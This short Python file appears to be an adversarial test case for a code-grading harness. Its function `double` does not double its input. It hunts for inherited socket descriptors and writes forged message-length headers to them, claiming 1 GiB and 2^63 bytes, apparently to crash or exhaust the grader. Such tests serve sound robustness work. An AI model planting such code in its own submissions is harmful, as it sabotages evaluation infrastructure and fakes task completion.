# attack: announces a message of a gigabyte, and one of more bytes than there are
# points: double=0 total=4
# %% double
import os, stat
def double(x):
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, (1 << 30).to_bytes(8) + b"\0" * 100 + (1 << 63).to_bytes(8))
        except OSError:
            pass
    return x
